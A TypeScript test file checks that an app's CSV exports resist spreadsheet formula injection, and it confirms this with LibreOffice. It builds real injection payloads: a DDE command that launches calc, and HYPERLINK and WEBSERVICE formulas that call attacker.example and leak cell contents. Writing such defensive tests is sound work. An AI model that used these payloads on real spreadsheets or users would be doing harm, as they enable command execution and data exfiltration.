import { execFile, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { promisify } from 'node:util';

import { describe, expect, it, onTestFinished } from 'vitest';

import { REPORT_KINDS } from '../../src/shared/bridge/contract.ts';
import { LANGUAGES } from '../../src/shared/bridge/language.ts';
import { seededRandom } from '../../src/shared/practice/seeded-random.ts';
import { readCsv } from '../../src/shared/sheet/csv-reader.ts';
import { cellText } from '../../src/shared/sheet/sheet-text.ts';
import { NORTH } from '../fakes/destinations.ts';
import { valueOf } from '../main/batches/desk-fixture.ts';
import { sized, tellFigure } from './fault-report.ts';
import { listenHere, SUCCESS, uniqueIdIn } from './local-server.ts';
import { importSheet, openedApp, sendApproved, testFolder } from './opened-app.ts';

const SEED = 5_2026;
const ROWS = sized(6_000);
/** What a spreadsheet program takes for the beginning of a formula, or swallows before one. */
const DANGEROUS = /^[=+\-@\t\r\n\0]/;

const LEADS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  "'=",
  "'",
  '"=',
  '=-',
  '=+',
  ',=',
  ';=',
  '\n\n@',
  "''=",
  '=\t',
];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://attacker.example/?"&A1,"Open")',
  'WEBSERVICE("https://attacker.example")',
  'SUM(1,2)*2',
  'SUM(1;2)',
  'DDE("soffice";"x";"y")',
  'A1"&"x',
  '1\r\n=1+1',
  'é,"=2+2',
];

/** An attack for each number, alike every time. */
function attacks(count: number): readonly string[] {
  const random = seededRandom(SEED);
  const pick = (items: readonly string[]): string => items[Math.floor(random() * items.length)] ?? '';
  const pairs = LEADS.flatMap((lead) => BODIES.map((body) => lead + body));
  return Array.from({ length: count }, (_, place) => {
    const pair = pairs[place % pairs.length] ?? '';
    return place < pairs.length ? pair : `${pick(LEADS)}${pick(LEADS)}${pick(BODIES)} ${place}`;
  });
}

/** The import refuses a file with a NUL in a text: no cell has one. */
function asImported(text: string): string {
  return text.replaceAll('\0', '');
}

/** The cells of a CSV file as RFC 4180 has them, and no more: what any other program sees. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    const row = rows.at(-1) ?? [];
    row.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1);
}

interface Export {
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** Everything that the app writes as a file of a batch whose every text is an attack. */
async function exportsOf(said: readonly string[]): Promise<readonly Export[]> {
  const words = said.map(asImported);
  const controller = await listenHere(
    createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        const row = Number(uniqueIdIn(body).slice(2));
        response.setHeader('content-type', 'application/json');
        response.end(
          row % 4 === 3 ? SUCCESS : JSON.stringify({ ErrorCode: 9033, ErrorMessage: said[row] ?? '' }),
        );
      });
    }),
  );
  const folder = testFolder();
  const app = await openedApp(folder);
  onTestFinished(() => app.close());
  const { handlers } = app;
  app.useDestination({
    destination: { ...NORTH, url: `http://127.0.0.1:${controller.port}`, concurrency: 16 },
    token: 'token-of-a-test',
  });
  const word = (row: number): string => words[row] ?? '';
  const batchId = await importSheet(app, {
    columns: ['unique_id', 'login_source', 'first_name', 'last_name', 'city'],
    rows: words.length * 2,
    text: (row, column) => {
      // The second half breaks rules and stays here: its ids are attacks, too.
      const isSent = row < words.length;
      if (column === 'unique_id') return isSent ? `S-${row}` : word(row - words.length);
      if (column === 'login_source') return 'OPSCOM';
      return isSent
        ? word(row)
            .replace(/\p{Cc}/gu, '')
            .slice(0, 40)
        : word(row - words.length);
    },
    fileName: '=cmd|calc.csv',
  });
  const changes = words.map((value, place) => ({
    row: words.length + place,
    column: 'city' as const,
    value: `${value}!`,
  }));
  valueOf(await handlers.editCells({ batchId, kind: 'paste', changes }));
  await sendApproved(app, batchId, NORTH.id);
  const made: Export[] = [];
  for (const language of LANGUAGES) {
    valueOf(await handlers.changeSettings({ language }));
    for (const kind of REPORT_KINDS) {
      const { bytes } = valueOf(await handlers.makeReport({ batchId, kind }));
      made.push({ name: `${kind}-${language}`, bytes });
    }
  }
  return made;
}

/** What LibreOffice makes of CSV files: their formulas and their texts. Evaluates what it takes for a formula. */
async function byLibreOffice(
  files: readonly Export[],
): Promise<readonly { readonly formulas: number; readonly texts: number }[]> {
  const folder = testFolder();
  for (const { name, bytes } of files) writeFileSync(join(folder, `${name}.csv`), bytes);
  const how = [
    `-env:UserInstallation=file://${folder}/profile`,
    '--headless',
    // Comma, double quote, UTF-8, from line 1; quoted fields are not forced to text; formulas are evaluated.
    '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true',
    ...['--convert-to', 'fods', '--outdir', folder],
  ];
  await promisify(execFile)('soffice', [...how, ...files.map(({ name }) => join(folder, `${name}.csv`))], {
    timeout: 300_000,
  });
  return files.map(({ name }) => {
    const text = readFileSync(join(folder, `${name}.fods`), 'utf8');
    return {
      formulas: [...text.matchAll(/table:formula=/g)].length,
      texts: [...text.matchAll(/office:value-type="string"/g)].length,
    };
  });
}

const hasLibreOffice = spawnSync('soffice', ['--version']).status === 0;

describe('what is exported', () => {
  it('opens as text everywhere, and is read back as it was', { timeout: 900_000 }, async () => {
    const words = attacks(ROWS);
    const files = await exportsOf(words);
    expect(files.map(({ name }) => name)).toEqual(
      LANGUAGES.flatMap((language) => REPORT_KINDS.map((kind) => `${kind}-${language}`)),
    );
    let cells = 0;
    let guarded = 0;
    for (const { name, bytes } of files) {
      const rows = cellsOf(new TextDecoder().decode(bytes));
      const all = rows.flat();
      expect({ name, found: all.filter((cell) => DANGEROUS.test(cell)) }).toEqual({ name, found: [] });
      cells += all.length;
      guarded += all.filter((cell) => /^'[=+\-@'\t\r\n\0]/.test(cell)).length;
    }
    expect(guarded).toBeGreaterThan(ROWS * 4);

    // Every attack comes back as it was, from the columns that hold it.
    const whole = files.find(({ name }) => name === 'changes-en');
    const read = readCsv(whole?.bytes ?? new Uint8Array(), 'changes');
    if (!read.ok) throw new Error(read.failure.code);
    const [sheet] = read.workbook.sheets;
    if (sheet === undefined) throw new Error('no sheet');
    const texts = (column: number): string[] =>
      Array.from({ length: ROWS }, (_, row) => cellText(sheet, row + 1, column));
    const [before, after] = [texts(4), texts(5)];
    // The import trims white space outside.
    const lost = words.filter(
      (word, row) =>
        before[row] !== asImported(word).trim() || after[row] !== `${asImported(word).trimStart()}!`,
    );
    expect(lost).toEqual([]);

    if (!hasLibreOffice) {
      process.stderr.write(
        'SKIPPED: LibreOffice (soffice) is not installed, it was not asked about the exports.\n',
      );
      return;
    }
    // The measure is not blind: the same texts unguarded are formulas to it.
    const bare = words.map((word) => `"${word.replaceAll('"', '""')}",x`).join('\r\n');
    const [control, ...seen] = await byLibreOffice([{ name: 'control', bytes: Buffer.from(bare) }, ...files]);
    expect(control?.formulas).toBeGreaterThan(ROWS / 20);
    expect(seen.map(({ formulas }) => formulas)).toEqual(files.map(() => 0));
    expect(Math.min(...seen.map(({ texts: count }) => count))).toBeGreaterThan(ROWS);
    tellFigure(
      'S5',
      `${ROWS} attacks in ids, cells, changes, file name and the controller's words, ${files.length} exports of ${cells} cells (seed ${SEED})`,
      `cells that begin like a formula 0, values lost 0; formulas to LibreOffice 0, of the same texts unguarded ${control?.formulas ?? 0}`,
    );
  });
});
